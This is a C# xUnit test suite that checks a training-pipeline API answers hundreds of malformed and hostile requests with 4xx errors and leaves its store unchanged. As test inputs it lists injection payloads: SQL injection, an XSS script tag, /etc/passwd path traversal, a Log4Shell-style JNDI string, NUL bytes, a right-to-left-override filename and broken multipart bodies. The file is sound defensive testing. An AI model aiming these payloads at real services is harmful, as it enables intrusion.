using System.Net;
using System.Net.Http.Headers;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using GpoPipeline.Api.Tests.Support;
using GpoPipeline.Trajectories.ControlPlane;
using Microsoft.Extensions.DependencyInjection;
using Xunit.Abstractions;

namespace GpoPipeline.Api.Tests;

/// <summary>
/// Issue 12's hostile-request suite: malformed and hostile requests (bad JSON, wrong types, huge bodies, unknown ids,
/// injection strings, missing or wrong keys, scope violations). Every one must get a 4xx problem document, none a
/// 5xx, and nothing stored may change.
/// </summary>
public sealed class HostileRequests_Specs(ITestOutputHelper output) : IAsyncLifetime
{
    private const int MaxBodyBytes = 32 * 1024;
    private readonly ApiFactory api = new(new Dictionary<string, string?>
    {
        ["ControlPlane:RequestsPerMinute"] = "100000", ["ControlPlane:MaxBodyBytes"] = MaxBodyBytes.ToString(), ["ControlPlane:MaxExamples"] = "50",
        ["ControlPlane:ProxyBaseUrl"] = "http://127.0.0.1:9/v1/", ["ControlPlane:ProxyModel"] = "unreachable",
    });

    private readonly Dictionary<string, string> keys = [];

    private static readonly string[] Injections =
    [
        "'; DROP TABLE tasks;--", "{\"$gt\":\"\"}", "<script>alert(1)</script>", "../../etc/passwd", "%00", "${jndi:ldap://x/a}", "' OR '1'='1", "\u0000",
    ];

    public async Task InitializeAsync()
    {
        var admin = api.Admin();
        await admin.CreateTaskAsync("nav");
        foreach (var (name, scopes, task) in new[] { ("read", new[] { "read" }, (string?)null), ("write", ["write"], null), ("proxy", ["proxy"], "nav") })
        {
            var created = await admin.PostAsync("/v1/keys", Jsonl.Json(new { name, scopes, task }));
            keys[name] = (await created.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("key").GetString()!;
        }
    }

    public async Task DisposeAsync() => await api.DisposeAsync();

    [Fact]
    public async Task When_hundreds_of_hostile_requests_arrive_Should_answer_each_with_a_4xx_problem_and_change_nothing()
    {
        var before = await SnapshotAsync();
        var requests = Requests().ToList();
        var failures = new List<string>();
        foreach (var (description, key, build) in requests)
        {
            using var request = build();
            var client = key is null ? api.CreateClient() : api.ClientWith(key);
            using var response = await client.SendAsync(request);
            var status = (int)response.StatusCode;
            var type = response.Content.Headers.ContentType?.MediaType;
            if (status is < 400 or >= 500 || type != "application/problem+json")
            {
                failures.Add($"{description}: {status} {type} {await response.Content.ReadAsStringAsync()}");
            }
        }

        output.WriteLine($"{requests.Count} hostile requests, {failures.Count} not answered with a 4xx problem");
        Assert.True(requests.Count >= 200, $"only {requests.Count} requests");
        Assert.True(failures.Count == 0, string.Join("\n", failures));
        Assert.Equal(before, await SnapshotAsync());
    }

    private IEnumerable<(string Description, string? Key, Func<HttpRequestMessage> Build)> Requests()
    {
        string admin = ApiFactory.AdminKey, read = keys["read"], write = keys["write"], proxy = keys["proxy"];
        var anyRun = Guid.NewGuid();
        (string Method, string Path)[] endpoints =
        [
            ("GET", "/v1/tasks"), ("POST", "/v1/tasks"), ("GET", "/v1/tasks/nav"), ("PUT", "/v1/tasks/nav/policy"), ("PUT", "/v1/tasks/nav/dataset"),
            ("POST", "/v1/tasks/nav/examples"), ("GET", "/v1/tasks/nav/datasets/1"), ("POST", "/v1/tasks/nav/runs"), ("GET", "/v1/runs"),
            ("GET", $"/v1/runs/{anyRun}"), ("POST", $"/v1/runs/{anyRun}/cancel"), ("POST", $"/v1/runs/{anyRun}/resume"), ("GET", $"/v1/runs/{anyRun}/events"),
            ("GET", "/v1/tasks/nav/champions"), ("POST", "/v1/tasks/nav/rollback"), ("GET", "/v1/tasks/nav/prompt"), ("POST", "/v1/chat/completions"),
            ("GET", "/v1/keys"), ("POST", "/v1/keys"), ("DELETE", "/v1/keys/0123456789ab"), ("PUT", "/v1/tasks/nav/settings"),
        ];

        // 1. No key, and keys that are wrong in every way.
        string[] wrongKeys = ["garbage", "gpo_0123456789ab_wrong", "gpo_ffffffffffff_unknown", "gpo_", "gpo_0123456789ab_", "Bearer", new string('k', 5000), .. Injections];
        foreach (var (method, path) in endpoints)
        {
            yield return ($"{method} {path} without a key", null, () => new HttpRequestMessage(new HttpMethod(method), path));
        }

        foreach (var wrong in wrongKeys)
        {
            foreach (var (method, path) in endpoints.Where((_, i) => i % 3 == 0))
            {
                yield return ($"{method} {path} with key '{wrong[..Math.Min(20, wrong.Length)]}'", null, () =>
                {
                    var request = new HttpRequestMessage(new HttpMethod(method), path);
                    request.Headers.TryAddWithoutValidation("Authorization", "Bearer " + wrong);
                    return request;
                });
            }
        }

        // 2. Scope violations: read writes, write administers, proxy does anything but its own task's prompt and chat.
        foreach (var (method, path) in endpoints.Where(e => e.Method != "GET" && e.Path != "/v1/chat/completions"))
        {
            yield return ($"read key: {method} {path}", read, () => new HttpRequestMessage(new HttpMethod(method), path) { Content = Jsonl.Json(new { }) });
        }

        foreach (var (method, path) in endpoints.Where(e => e.Path.StartsWith("/v1/keys", StringComparison.Ordinal)))
        {
            yield return ($"write key: {method} {path}", write, () => new HttpRequestMessage(new HttpMethod(method), path) { Content = Jsonl.Json(new { name = "x", scopes = new[] { "admin" } }) });
        }

        foreach (var (method, path) in endpoints.Where(e => e.Path is not ("/v1/tasks/nav/prompt" or "/v1/chat/completions")))
        {
            yield return ($"proxy key: {method} {path}", proxy, () => new HttpRequestMessage(new HttpMethod(method), path) { Content = Jsonl.Json(new { }) });
        }

        // 3. Malformed or invalid task definitions (nothing may be created).
        string[] badTasks =
        [
            "", "{", "[]", "null", "42", "\"nav\"", "{\"name\":123}", "{\"name\":null}", "{\"name\":\"UPPER\"}", "{\"name\":\"a/b\"}", "{\"name\":\"nav\"}",
            $"{{\"name\":\"{new string('a', 65)}\"}}", "{\"name\":{\"$gt\":\"\"}}", "{\"name\":\"ok1\",\"nmae\":\"typo\"}",
            "{\"name\":\"ok1\",\"settings\":{\"steps\":-1}}", "{\"name\":\"ok1\",\"settings\":{\"steps\":0}}", "{\"name\":\"ok1\",\"settings\":{\"steps\":1000000000}}",
            "{\"name\":\"ok1\",\"settings\":{\"steps\":\"3\"}}", "{\"name\":\"ok1\",\"settings\":{\"steps\":3.5}}", "{\"name\":\"ok1\",\"settings\":{\"candidates\":0}}",
            "{\"name\":\"ok1\",\"settings\":{\"batchSize\":0}}", "{\"name\":\"ok1\",\"settings\":{\"promptPosition\":\"nowhere\"}}",
            "{\"name\":\"ok1\",\"settings\":{\"schedule\":\"zigzag\"}}", "{\"name\":\"ok1\",\"settings\":{\"promptPosition\":\"QBegin,ABegin\"}}",
            "{\"name\":\"ok1\",\"settings\":{\"schedule\":\"none, fixed, linear\"}}", "{\"name\":\"ok1\",\"settings\":{\"retrieval\":\"psychic\"}}",
            "{\"name\":\"ok1\",\"settings\":{\"maxCost\":-1}}", "{\"name\":\"ok1\",\"settings\":{\"maxCost\":NaN}}", "{\"name\":\"ok1\",\"settings\":[]}",
            "{\"name\":\"ok1\",\"policy\":{\"alpha\":0}}", "{\"name\":\"ok1\",\"policy\":{\"alpha\":2}}", "{\"name\":\"ok1\",\"policy\":{\"alpha\":\"x\"}}",
            "{\"name\":\"ok1\",\"policy\":{\"cron\":\"not cron\"}}", "{\"name\":\"ok1\",\"policy\":{\"cron\":\"* * * * * * *\"}}",
            "{\"name\":\"ok1\",\"policy\":{\"minimumEffect\":-5}}", "{\"name\":\"ok1\",\"policy\":{\"reoptimizeEveryExamples\":0}}",
            "{\"name\":\"ok1\",\"policy\":{\"dailyMaxCost\":0}}", "{\"name\":\"ok1\",\"initialPrompt\":\"\"}",
            $"{{\"name\":\"ok1\",\"initialPrompt\":\"{new string('p', 5000)}\"}}", $"{{\"name\":\"ok1\",\"description\":\"{new string('d', 2000)}\"}}",
            new string('[', 100) + new string(']', 100), "{\"name\":\"ok1\"" + new string(' ', 10) + ",}",
            "{\"name\":\"dup1\",\"name\":\"dup2\"}", "{\"name\":\"ok1\",\"policy\":{\"cron\":\"0 0 31 2 *\"}}",
            "{\"name\":\"ok1\",\"policy\":{\"alpha\":0.05,\"alpha\":0.01}}", "{\"na\\ud800me\":\"ok1\"}", "{\"name\":\"ok1\",\"x\\ud800\":1,\"x\\ud800\":2}",
            "{\"name\":\"ok\\ud800\"}", "{\"name\":\"ok1\",\"settings\":{\"st\\udc00eps\":3}}",
        ];
        foreach (var body in badTasks)
        {
            yield return ($"POST /v1/tasks {body[..Math.Min(40, body.Length)]}", write, () => Post("/v1/tasks", body, "application/json"));
        }

        foreach (var injection in Injections)
        {
            yield return ($"POST /v1/tasks name {injection}", write, () => Post("/v1/tasks", JsonSerializer.Serialize(new { name = injection }), "application/json"));
        }

        yield return ("POST /v1/tasks as text/plain", write, () => Post("/v1/tasks", "{\"name\":\"ok1\"}", "text/plain"));
        yield return ("PUT policy with a bad cron", write, () => Put("/v1/tasks/nav/policy", "{\"cron\":\"61 * * * *\"}", "application/json"));
        yield return ("PUT policy with bad JSON", write, () => Put("/v1/tasks/nav/policy", "{\"alpha\":", "application/json"));
        string[] badSettings =
        [
            "", "{", "[]", "null", "{\"steps\":0}", "{\"steps\":1001}", "{\"epochs\":0}", "{\"candidates\":65}", "{\"batchSize\":1001}",
            "{\"maxDevExamples\":0}", "{\"maxTestExamples\":-1}", "{\"seed\":1e20}", "{\"seed\":\"1\"}", "{\"steps\":\"3\"}", "{\"stepz\":3}",
            "{\"promptPosition\":\"Q_begin\"}", "{\"retrieval\":\"psychic\"}", "{\"retrieval\":\"recency,importance\"}", "{\"maxCost\":NaN}", "{\"maxCalls\":0}", "{\"taskModel\":\"\\u0007\"}",
        ];
        foreach (var body in badSettings)
        {
            yield return ($"PUT settings {body}", write, () => Put("/v1/tasks/nav/settings", body, "application/json"));
        }

        yield return ("PUT settings as text/plain", write, () => Put("/v1/tasks/nav/settings", "{\"steps\":3}", "text/plain"));

        // 4. Bad uploads, for both the replacing upload and the append.
        var tooMany = string.Join('\n', Enumerable.Range(0, 51).Select(i => $"{{\"input\":\"q{i}\",\"target\":\"a\"}}"));
        var huge = $"{{\"input\":\"{new string('x', MaxBodyBytes + 10)}\",\"target\":\"a\"}}";
        string[] badUploads =
        [
            "", "\n\n", "not json", "[1,2]", "{\"input\":1,\"target\":\"a\"}", "{\"target\":\"a\"}", "{\"input\":\"q\"}", "{\"input\":\"q\",\"target\":null}",
            "{\"input\":\"q\",\"target\":{}}", "{\"input\":\"q\",\"target\":[]}", "{\"input\":\"q\",\"target\":[1]}", "{\"input\":\"q\",\"target\":true}",
            "{\"input\":\"q\",\"target\":\"a\"}\n{\"input\":", "{\"input\":\"q\",\"target\":\"a\"}", tooMany, huge,
            string.Join('\n', Injections.Select(i => JsonSerializer.Serialize(new { input = i, target = 1 }) + "x")),
        ];
        foreach (var path in new[] { "/v1/tasks/nav/dataset", "/v1/tasks/nav/examples" })
        {
            var method = path.EndsWith("dataset", StringComparison.Ordinal) ? HttpMethod.Put : HttpMethod.Post;
            foreach (var body in badUploads)
            {
                yield return ($"{method} {path} {body[..Math.Min(30, body.Length)]}", write, () => new HttpRequestMessage(method, path) { Content = new StringContent(body, Encoding.UTF8, "application/jsonl") });
            }

            yield return ($"{method} {path} invalid UTF-8", write, () => new HttpRequestMessage(method, path) { Content = new ByteArrayContent([0x7b, 0xc3, 0x28, 0x0a]) });
            // A UTF-16 LE byte order mark, then a high surrogate with nothing after it.
            yield return ($"{method} {path} broken UTF-16", write, () => new HttpRequestMessage(method, path) { Content = new ByteArrayContent([0xff, 0xfe, 0x7b, 0x00, 0x00, 0xd8]) });
            yield return ($"{method} {path} as a form", write, () => new HttpRequestMessage(method, path)
            {
                Content = new MultipartFormDataContent { { new StringContent("{\"input\":\"q\",\"target\":\"a\"}"), "file", "train.jsonl" } },
            });
        }

        // 4b. Hostile task-folder uploads (multipart/form-data on PUT …/dataset).
        foreach (var (description, build) in HostileFolders())
        {
            yield return ($"PUT dataset folder: {description}", write, () => new HttpRequestMessage(HttpMethod.Put, "/v1/tasks/nav/dataset") { Content = build() });
        }

        // 5. Unknown ids and hostile path segments.
        // (A NUL in a path never reaches the app: the in-memory server refuses it client-side, Kestrel with a 400.)
        foreach (var name in new[] { "nope", "NAV", "nav.." }.Concat(Injections.Where(i => !i.Contains('\0') && i != "%00").Select(Uri.EscapeDataString)))
        {
            yield return ($"GET task {name}", read, () => new HttpRequestMessage(HttpMethod.Get, $"/v1/tasks/{name}"));
            yield return ($"GET prompt {name}", read, () => new HttpRequestMessage(HttpMethod.Get, $"/v1/tasks/{name}/prompt"));
            yield return ($"POST runs {name}", write, () => Post($"/v1/tasks/{name}/runs", "{}", "application/json"));
            yield return ($"POST examples {name}", write, () => Post($"/v1/tasks/{name}/examples", "{\"input\":\"q\",\"target\":\"a\"}", "application/jsonl"));
            yield return ($"rollback {name}", write, () => Post($"/v1/tasks/{name}/rollback", "", "application/json"));
            yield return ($"PUT settings {name}", write, () => Put($"/v1/tasks/{name}/settings", "{\"steps\":3}", "application/json"));
        }

        yield return ("GET run unknown", read, () => new HttpRequestMessage(HttpMethod.Get, $"/v1/runs/{Guid.NewGuid()}"));
        yield return ("GET run not a guid", read, () => new HttpRequestMessage(HttpMethod.Get, "/v1/runs/not-a-guid"));
        yield return ("GET events unknown", read, () => new HttpRequestMessage(HttpMethod.Get, $"/v1/runs/{Guid.NewGuid()}/events"));
        yield return ("cancel unknown", write, () => Post($"/v1/runs/{Guid.NewGuid()}/cancel", "", "application/json"));
        yield return ("resume unknown", write, () => Post($"/v1/runs/{Guid.NewGuid()}/resume", "", "application/json"));
        yield return ("dataset version 99", read, () => new HttpRequestMessage(HttpMethod.Get, "/v1/tasks/nav/datasets/99"));
        yield return ("dataset version -1", read, () => new HttpRequestMessage(HttpMethod.Get, "/v1/tasks/nav/datasets/-1"));
        yield return ("dataset version past int", read, () => new HttpRequestMessage(HttpMethod.Get, "/v1/tasks/nav/datasets/99999999999"));
        yield return ("dataset version not a number", read, () => new HttpRequestMessage(HttpMethod.Get, "/v1/tasks/nav/datasets/latest"));
        yield return ("revoke unknown key", admin, () => new HttpRequestMessage(HttpMethod.Delete, "/v1/keys/ffffffffffff"));
        yield return ("run without data", write, () => Post("/v1/tasks/nav/runs", "{}", "application/json"));
        yield return ("run with bad overrides", write, () => Post("/v1/tasks/nav/runs", "{\"steps\":0}", "application/json"));
        yield return ("run with unknown override", write, () => Post("/v1/tasks/nav/runs", "{\"stepz\":3}", "application/json"));
        yield return ("rollback of the first champion", write, () => Post("/v1/tasks/nav/rollback", "", "application/json"));

        // 6. Bad queries.
        foreach (var query in new[] { "page=0", "pageSize=0", "pageSize=100000", "status=Bogus", "task=../x", "page=abc", "pageSize=-5", "status=%27%3B" })
        {
            yield return ($"GET runs?{query}", read, () => new HttpRequestMessage(HttpMethod.Get, $"/v1/runs?{query}"));
        }

        // 7. The chat proxy: what an OpenAI client might send wrong.
        string[] badChats =
        [
            "", "{", "[]", "{}", "{\"model\":\"gpt-4o\",\"messages\":[{\"role\":\"user\",\"content\":\"hi\"}]}", "{\"model\":123}",
            "{\"model\":\"gpo:nope\",\"messages\":[{\"role\":\"user\",\"content\":\"hi\"}]}", "{\"model\":\"gpo:nav\"}", "{\"model\":\"gpo:nav\",\"messages\":[]}",
            "{\"model\":\"gpo:nav\",\"messages\":[{\"role\":\"system\",\"content\":\"hi\"}]}", "{\"model\":\"gpo:nav\",\"messages\":[{\"role\":\"user\",\"content\":[1]}]}",
            "{\"model\":\"gpo:nav\",\"messages\":\"hi\"}", "{\"model\":\"gpo:../nav\",\"messages\":[{\"role\":\"user\",\"content\":\"hi\"}]}",
            // Duplicate fields and half a surrogate pair: valid JSON, but reading it threw (500).
            "{\"model\":\"gpo:nav\",\"model\":\"gpo:nav\",\"messages\":[{\"role\":\"user\",\"content\":\"hi\"}]}",
            "{\"model\":\"gpo:nav\",\"messages\":[{\"role\":\"user\",\"role\":\"user\",\"content\":\"hi\"}]}",
            "{\"model\":\"gpo:nav\",\"messages\":[{\"role\":\"user\",\"content\":\"hi \\ud800\"}]}",
            "{\"model\":\"gpo:\\ud800\",\"messages\":[{\"role\":\"user\",\"content\":\"hi\"}]}",
            "{\"model\":\"gpo:nav\",\"messages\":[{\"role\":\"\\udc00\",\"content\":\"hi\"}]}",
            "{\"model\":\"gpo:nav\",\"messages\":[{\"role\":\"user\",\"content\":\"hi\",\"x\\ud800\":1}]}",
            "{\"model\":\"gpo:\\udc00\",\"messages\":[{\"role\":\"user\",\"content\":\"hi\"}]}",
            "{\"model\":\"gpo:nav\",\"user\":\"\\ud800\",\"messages\":[{\"role\":\"user\",\"content\":\"hi\"}]}",
            "{\"\\ud800\":1,\"model\":\"gpo:nav\",\"messages\":[{\"role\":\"user\",\"content\":\"hi\"}]}",
        ];
        foreach (var body in badChats)
        {
            yield return ($"chat {body[..Math.Min(40, body.Length)]}", proxy, () => Post("/v1/chat/completions", body, "application/json"));
        }

        yield return ("chat huge", proxy, () => Post("/v1/chat/completions", $"{{\"model\":\"gpo:nav\",\"x\":\"{new string('x', MaxBodyBytes)}\"}}", "application/json"));

        // 8. Key administration with bad bodies, and methods that do not exist.
        string[] badKeys =
        [
            "{}", "{\"name\":\"\"}", "{\"name\":\"k\",\"scopes\":[]}", "{\"name\":\"k\",\"scopes\":[\"root\"]}", "{\"name\":\"k\",\"scopes\":[\"proxy\"]}",
            "{\"name\":\"k\",\"scopes\":[\"proxy\"],\"task\":\"nope\"}", "{\"name\":\"k\",\"scopes\":[\"read\"],\"task\":\"nav\"}",
            "{\"name\":\"k\\u0007\",\"scopes\":[\"read\"]}", "{\"name\":\"k\",\"scopes\":\"admin\"}", "{\"name\":\"k\",\"scopes\":[\"proxy\",\"admin\"],\"task\":\"nav\"}",
            "{\"name\":\"k\",\"name\":\"j\",\"scopes\":[\"read\"]}", "{\"name\":\"bootstrap admin\\u200b\",\"scopes\":[\"admin\"]}",
            "{\"name\":\"k\\u202egnp.exe\",\"scopes\":[\"read\"]}",
        ];
        foreach (var body in badKeys)
        {
            yield return ($"POST /v1/keys {body}", admin, () => Post("/v1/keys", body, "application/json"));
        }

        foreach (var (method, path) in new[] { ("DELETE", "/v1/tasks"), ("PATCH", "/v1/tasks/nav"), ("PUT", "/v1/runs"), ("DELETE", "/v1/tasks/nav/prompt"), ("GET", "/v1/nothing-here") })
        {
            yield return ($"{method} {path}", admin, () => new HttpRequestMessage(new HttpMethod(method), path));
        }
    }

    /// <summary>Multipart bodies that are malformed, misnamed, oversized or carry bad lines; none may store anything.</summary>
    private static IEnumerable<(string Description, Func<HttpContent> Build)> HostileFolders()
    {
        const string line = "{\"input\":\"q\",\"target\":\"a\"}";
        static HttpContent Raw(string body, string contentType)
        {
            var content = new ByteArrayContent(Encoding.UTF8.GetBytes(body));
            content.Headers.TryAddWithoutValidation("Content-Type", contentType);
            return content;
        }

        static MultipartFormDataContent Form(params (string Field, string? File, string Body)[] parts)
        {
            var form = new MultipartFormDataContent();
            foreach (var (field, file, body) in parts)
            {
                if (file is null)
                {
                    form.Add(new StringContent(body), field);
                }
                else
                {
                    form.Add(new StringContent(body), field, file);
                }
            }

            return form;
        }

        const string part = "--b\r\nContent-Disposition: form-data; name=\"train\"; filename=\"train.jsonl\"\r\n\r\n";
        yield return ("no boundary", () => Raw("--b\r\n\r\n" + line + "\r\n--b--\r\n", "multipart/form-data"));
        yield return ("empty boundary", () => Raw(line, "multipart/form-data; boundary="));
        yield return ("boundary over 70 characters", () => Raw(line, "multipart/form-data; boundary=" + new string('b', 71)));
        yield return ("no boundary in the body", () => Raw(line, "multipart/form-data; boundary=b"));
        yield return ("cut off after a part's headers", () => Raw(part + line, "multipart/form-data; boundary=b"));
        yield return ("no parts", () => Raw("--b--\r\n", "multipart/form-data; boundary=b"));
        yield return ("part without headers", () => Raw("--b\r\n\r\n" + line + "\r\n--b--\r\n", "multipart/form-data; boundary=b"));
        yield return ("header line without a colon", () => Raw("--b\r\nnot a header\r\n\r\n" + line + "\r\n--b--\r\n", "multipart/form-data; boundary=b"));
        yield return ("part headers over the limit", () => Raw("--b\r\nX-Pad: " + new string('h', 6000) + "\r\n\r\n" + line + "\r\n--b--\r\n", "multipart/form-data; boundary=b"));
        yield return ("too many part headers", () => Raw("--b\r\n" + string.Concat(Enumerable.Range(0, 20).Select(i => $"X-H{i}: v\r\n")) + "\r\n" + line + "\r\n--b--\r\n", "multipart/form-data; boundary=b"));
        yield return ("invalid UTF-8 in a part", () =>
        {
            var form = new MultipartFormDataContent { { new ByteArrayContent([0x7b, 0xc3, 0x28, 0x0a]), "train", "train.jsonl" } };
            return form;
        });
        yield return ("a part bigger than the body limit", () => Form(("train", "train.jsonl", $"{{\"input\":\"{new string('x', MaxBodyBytes)}\",\"target\":\"a\"}}")));
        yield return ("more examples than allowed", () => Form(("train", "train.jsonl", string.Join('\n', Enumerable.Range(0, 51).Select(i => $"{{\"input\":\"q{i}\",\"target\":\"a\"}}")))));
        yield return ("six parts of one split", () => Form([.. Enumerable.Range(0, 6).Select(i => ("train", (string?)$"x{i}/train.jsonl", line))]));
        yield return ("the same split twice", () => Form(("a", "train.jsonl", line), ("b", "train.jsonl", line)));
        yield return ("only format and few_shot", () => Form(("format", "format.jsonl", line), ("few_shot", "few_shot.jsonl", line)));
        yield return ("an empty split file", () => Form(("train", "train.jsonl", "")));
        yield return ("a bad line in test", () => Form(("train", "train.jsonl", line), ("test", "test.jsonl", line + "\n{\"input\":")));
        yield return ("wrong types in dev", () => Form(("dev", "dev.jsonl", "{\"input\":1,\"target\":\"a\"}")));
        yield return ("a bad line in format", () => Form(("train", "train.jsonl", line), ("format", "format.jsonl", "not json")));
        yield return ("a field that is not a file", () => Form(("notes", null, line)));
        yield return ("a CSV file", () => Form(("train", "train.csv", "input,target\nq,a")));
        yield return ("a file named like a split in caps", () => Form(("train", "TRAIN.JSONL", line)));
        yield return ("too few examples for every split", () => Form(("train", "train.jsonl", line)));
        yield return ("a nested multipart", () => Raw("--b\r\nContent-Disposition: form-data; name=\"train\"; filename=\"train.jsonl\"\r\nContent-Type: multipart/mixed; boundary=c\r\n\r\n--c\r\n\r\n" + line + "\r\n--c--\r\n--b--\r\n", "multipart/form-data; boundary=b"));
        foreach (var injection in Injections.Where(i => !i.Contains('\0')))
        {
            // Written by hand: HttpClient refuses some of these names itself, a hostile client does not.
            yield return ($"file named {injection}", () => Raw(
                $"--b\r\nContent-Disposition: form-data; name=\"train\"; filename=\"{injection.Replace("\"", "\\\"", StringComparison.Ordinal)}\"\r\n\r\n{line}\r\n--b--\r\n",
                "multipart/form-data; boundary=b"));
        }
    }

    private static HttpRequestMessage Post(string path, string body, string type) =>
        new(HttpMethod.Post, path) { Content = new StringContent(body, new MediaTypeHeaderValue(type)) };

    private static HttpRequestMessage Put(string path, string body, string type) =>
        new(HttpMethod.Put, path) { Content = new StringContent(body, new MediaTypeHeaderValue(type)) };

    private async Task<string> SnapshotAsync()
    {
        var store = api.Services.GetRequiredService<ControlPlaneStore>();
        var tasks = await store.ListTasksAsync();
        var state = new
        {
            tasks,
            champions = await store.ListChampionsAsync("nav"),
            decisions = await store.ListDecisionsAsync("nav"),
            datasets = await store.GetDatasetVersionAsync("nav", 1),
            submissions = await store.ListSubmissionsAsync(null),
            keys = (await store.ListApiKeysAsync()).OrderBy(k => k.Id).Select(k => new { k.Id, k.Revoked, k.Version }),
            served = await store.ListServedAsync("nav"),
        };
        return JsonSerializer.Serialize(state);
    }
}
